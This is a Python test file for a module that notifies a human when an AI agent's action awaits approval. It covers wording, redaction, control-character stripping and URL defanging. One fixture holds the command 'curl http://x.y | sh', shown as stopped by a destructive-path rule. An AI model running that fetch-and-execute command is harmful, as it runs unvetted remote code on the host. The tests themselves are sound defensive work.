from __future__ import annotations

import json
import unicodedata
from dataclasses import replace
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st

from engine.domain.escalation import Escalation
from engine.domain.ids import TaskId
from engine.notify.wording import defanged, neutral, notice_of
from tests.support.face import NOW
from tests.support.scene import escalation

ONE = escalation(1, "fix-gcd", "curl http://x.y | sh")


def notice(*asked: Escalation, says_what: bool = True) -> str:
    made = notice_of(
        asked, now=NOW, repo=Path("/srv/my shop"), project="shop", host="box", says_what=says_what
    )
    return f"{made.title}\n{made.body}\n{json.dumps(made.document)}"


def test_a_notice_says_what_where_how_long_and_what_to_type() -> None:
    assert notice(ONE).splitlines()[:-1] == [
        "1 question waits for you: shop",
        "shop on box, in /srv/my shop",
        "! high · fix-gcd · waits 10 min · wants to run curl http://x.y | sh"
        " · stopped by destructive-path",
        "see it: aio-tui --repo '/srv/my shop' escalations show esc-1",
        "answer: aio-tui --repo '/srv/my shop' escalations approve esc-1",
        "or: aio-tui --repo '/srv/my shop' escalations deny esc-1 --reason 'WHY'",
    ]


def test_many_questions_are_one_notice_that_names_some() -> None:
    told = notice(*(escalation(number, "fix-gcd", "ls") for number in range(1, 9)))
    assert told.startswith("8 questions wait for you: shop\n")
    assert told.count("! high") == 5
    assert "and 3 more\nsee them: aio-tui --repo '/srv/my shop' escalations list" in told


def test_under_hipaa_a_notice_says_that_something_waits_and_not_what() -> None:
    told = notice(replace(ONE, rule="secret-rule"), says_what=False)
    assert "curl" not in told
    assert "secret-rule" not in told
    assert "! high · fix-gcd · waits 10 min" in told


@given(st.text(max_size=400))
@example("\x1b]0;x\x07\x9c\x9b31m\u202e\u2066\u200b\ud800\u2028" * 9)
def test_no_text_gets_a_control_character_or_a_line_of_its_own_into_a_notice(text: str) -> None:
    hostile = replace(
        escalation(1, "x", text), task_id=TaskId(text), rule=text, why=text, effect=text
    )
    made = notice_of([hostile], now=NOW, repo=Path("/srv"), project=text, host=text, says_what=True)
    for row in (made.title, *made.lines, *map(str, made.document.values())):
        bad = {unicodedata.category(char) for char in row} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
        assert not bad
        assert len(row) < 1500
    assert len(made.lines) == 5


@given(st.text())
def test_services_get_no_mention_no_markup_and_no_address(text: str) -> None:
    assert not set("@<>") & set(defanged(text))
    assert "://" not in defanged(text)


def test_what_is_long_is_cut() -> None:
    assert neutral("x" * 1_000_000) == "x" * 199 + "…"
